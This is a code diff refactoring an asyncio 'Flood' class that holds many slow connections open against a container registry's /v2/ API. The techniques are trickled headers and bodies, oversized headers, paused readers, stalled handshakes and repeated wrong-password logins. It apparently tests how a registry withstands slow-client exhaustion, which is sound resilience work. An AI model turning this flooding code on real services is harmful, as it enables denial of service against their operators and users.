@@ -58,7 +58,8 @@ class Flood:
         await asyncio.gather(*tasks, return_exceptions=True)
         for kind in kinds:
             answers = ", ".join(f"{count} x {status}" for (k, status), count in sorted(self.answers.items()) if k == kind)
-            print(f"{kind}: {self.opened[kind]} opened, {self.ended[kind]} ended by the server; answers: {answers or 'none'}")
+            print(f"{kind}: {self.opened[kind]} opened, {self.ended[kind]} ended by the server; "
+                  f"answers: {answers or 'none'}")
         print(f"at most {self.peak} at once")
 
     async def keep(self, kind, talk, number):
@@ -85,7 +86,7 @@ class Flood:
     async def password(self, reader, writer, number):
         while True:
             wrong = basic(f"user{number}:{os.urandom(6).hex()}")
-            writer.write(f"GET /v2/ HTTP/1.1\r\nHost: {self.options.address}\r\n{wrong}\r\n".encode())
+            self.send(writer, "GET /v2/", wrong)
             await self.answer("password", reader)
             await asyncio.sleep(PAUSE)
 
@@ -94,26 +95,26 @@ class Flood:
         allowed = self.good if number // 4 % 2 else ""
         repository = f"flood/slow{number}"
         if number // 8 % 2:
-            request = f"PUT /v2/{repository}/manifests/slow HTTP/1.1\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\n"
+            line, content = f"PUT /v2/{repository}/manifests/slow", "application/vnd.oci.image.manifest.v1+json"
         else:
-            writer.write(f"POST /v2/{repository}/blobs/uploads/ HTTP/1.1\r\nHost: {self.options.address}\r\n{allowed}Content-Length: 0\r\n\r\n".encode())
+            self.send(writer, f"POST /v2/{repository}/blobs/uploads/", f"{allowed}Content-Length: 0\r\n")
             headers = await self.answer("body", reader)
-            request = f"PATCH {headers.get('location', '/v2/none')} HTTP/1.1\r\nContent-Type: application/octet-stream\r\n"
-        writer.write(f"{request}Host: {self.options.address}\r\n{allowed}Content-Length: {BODY}\r\n\r\n".encode())
+            line, content = f"PATCH {headers.get('location', '/v2/none')}", "application/octet-stream"
+        self.send(writer, line, f"{allowed}Content-Type: {content}\r\nContent-Length: {BODY}\r\n")
         await self.trickle("body", reader, writer, b"{")
 
     async def head(self, reader, writer, number):
-        writer.write(f"GET /v2/flood/slow{number}/tags/list HTTP/1.1\r\nHost: {self.options.address}\r\nX-Slow: ".encode())
+        self.send(writer, f"GET /v2/flood/slow{number}/tags/list", "X-Slow: ", end="")
         await self.trickle("head", reader, writer, b"x")
 
     async def fat_head(self, reader, writer, number):
-        writer.write(f"GET /v2/flood/slow{number}/tags/list HTTP/1.1\r\nHost: {self.options.address}\r\nX-Fat: ".encode() + b"x" * FAT)
+        self.send(writer, f"GET /v2/flood/slow{number}/tags/list", f"X-Fat: {'x' * FAT}", end="")
         await self.trickle("fat_head", reader, writer, b"x")
 
     async def reader(self, reader, writer, _number):
-        writer.write(f"GET {self.options.layer} HTTP/1.1\r\nHost: {self.options.address}\r\n{self.good}\r\n".encode())
+        self.send(writer, f"GET {self.options.layer}", self.good)
         await reader.readexactly(1)
-        reader._transport.pause_reading()
+        writer.transport.pause_reading()
         await asyncio.sleep(3600)
 
     async def silence(self, reader, writer, _number):
@@ -123,6 +124,9 @@ class Flood:
         """Every other one goes on a byte at a time, the rest say nothing more."""
         writer.write(HELLO)
         await self.trickle("handshake", reader, writer, b"\0" if number // 4 % 2 else b"")
+
+    def send(self, writer, line, headers, end="\r\n"):
+        writer.write(f"{line} HTTP/1.1\r\nHost: {self.options.address}\r\n{headers}{end}".encode())
 
     async def trickle(self, kind, reader, writer, byte):
         """Until the server answers or hangs up."""
